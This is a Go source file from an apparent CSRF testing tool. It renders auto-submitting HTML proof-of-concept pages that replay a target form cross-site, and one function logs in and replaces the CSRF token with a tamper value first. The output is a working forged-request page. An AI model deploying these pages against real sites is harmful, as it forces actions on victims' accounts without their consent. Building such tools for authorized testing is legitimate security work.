package csrf

import (
	"context"
	"fmt"
	"html"
	"log/slog"
	"net/url"
	"sort"
	"strings"

	"github.com/waftester/csrfprobe/pkg/document"
	"github.com/waftester/csrfprobe/pkg/session"
)

// GeneratePOC renders an auto-submitting HTML page that replays a form
// submission cross-site. Fields are emitted in name order.
func GeneratePOC(targetURL, method string, params url.Values) string {
	var sb strings.Builder
	sb.WriteString(`<!DOCTYPE html>
<html>
<head><title>CSRF PoC</title></head>
<body>
<h1>CSRF Proof of Concept</h1>
<form id="csrf-form" action="`)
	sb.WriteString(html.EscapeString(targetURL))
	sb.WriteString(`" method="`)
	sb.WriteString(html.EscapeString(strings.ToLower(method)))
	sb.WriteString(`">
`)

	names := make([]string, 0, len(params))
	for name := range params {
		names = append(names, name)
	}
	sort.Strings(names)

	for _, name := range names {
		for _, value := range params[name] {
			sb.WriteString(`  <input type="hidden" name="`)
			sb.WriteString(html.EscapeString(name))
			sb.WriteString(`" value="`)
			sb.WriteString(html.EscapeString(value))
			sb.WriteString(`" />
`)
		}
	}

	sb.WriteString(`</form>
<script>document.getElementById('csrf-form').submit();</script>
</body>
</html>`)

	return sb.String()
}

// POCFromForm renders a PoC for the implicit submission of f.
func POCFromForm(f *document.Form) string {
	action := ""
	if f.Action != nil {
		action = f.Action.String()
	}
	return GeneratePOC(action, f.Method, f.Values(nil))
}

// BuildPOC logs in, loads the scan page and renders a PoC for its
// protected form with the token replaced by the tamper value. A page
// without the token field yields a PoC for its first form as is.
func (p *Probe) BuildPOC(ctx context.Context) (string, error) {
	var poc string
	err := p.withSession(ctx, func(s *session.Session) error {
		if err := s.SetField(p.target.TokenField, p.target.TamperValue); err != nil {
			p.logger.Warn("token field not found, rendering form unchanged",
				slog.String("field", p.target.TokenField), slog.String("url", p.target.ScanURL))
		}
		f := s.WorkingForm()
		if f == nil {
			return fmt.Errorf("%w: %s", document.ErrNoForm, p.target.ScanURL)
		}
		poc = POCFromForm(f)
		return nil
	})
	if err != nil {
		return "", err
	}
	return poc, nil
}
